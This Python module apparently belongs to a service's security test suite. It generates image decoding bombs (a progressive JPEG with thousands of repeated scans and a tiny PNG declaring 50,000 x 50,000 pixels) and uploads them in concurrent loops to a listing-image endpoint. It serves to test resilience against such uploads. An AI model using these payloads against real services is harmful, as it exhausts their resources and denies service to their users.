"""Attacks by pictures that are small as files and expensive to decode."""

from __future__ import annotations

import asyncio
import contextlib
import io
import struct
import time
import zlib

import aiohttp
from PIL import Image

from tests.attack.target import Report, Target

_SCANS = 4_000


def many_scans(scans: int = _SCANS) -> bytes:
    """Return a progressive JPEG of 2,000 x 2,000 pixels whose last, empty scan is repeated."""
    stream = io.BytesIO()
    Image.new("L", (2_000, 2_000), 128).save(stream, "JPEG", progressive=True, quality=30)
    data = stream.getvalue()
    last_scan = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last_scan * scans + b"\xff\xd9"


def wide_header() -> bytes:
    """Return a PNG that says that it has 50,000 x 50,000 pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", checksum)

    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(100_000))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


async def bombs(target: Target, report: Report) -> None:
    """Upload pictures that take long to decode, one after the other and several at once."""
    files = ((many_scans(), "image/jpeg"), (wide_header(), "image/png"))
    ends_at = time.monotonic() + target.seconds
    headers = {"Authorization": f"Bearer {target.attacker_token}"}

    async def upload(session: aiohttp.ClientSession, data: bytes, content_type: str) -> None:
        images = f"/listings/{target.listing_id}/images"
        wish = {"content_type": content_type, "size": len(data)}
        async with session.post(images, json=wish, headers=headers) as answer:
            if answer.status != 201:
                report.add(f"announced {answer.status}")
                await asyncio.sleep(0.1)
                return
            made = await answer.json()
        async with session.put(
            made["upload"]["url"], data=data, headers=made["upload"]["headers"]
        ) as put:
            report.add(f"uploaded {put.status}")
        complete = f"{images}/{made['image_id']}/complete"
        async with session.post(complete, headers=headers) as done:
            report.add(f"completed {done.status}")

    async def attack() -> None:
        async with aiohttp.ClientSession(target.base_url) as session:
            while time.monotonic() < ends_at:
                for data, content_type in files:
                    with contextlib.suppress(aiohttp.ClientError, ConnectionError):
                        await upload(session, data, content_type)

    await asyncio.gather(*(attack() for _ in range(3)))
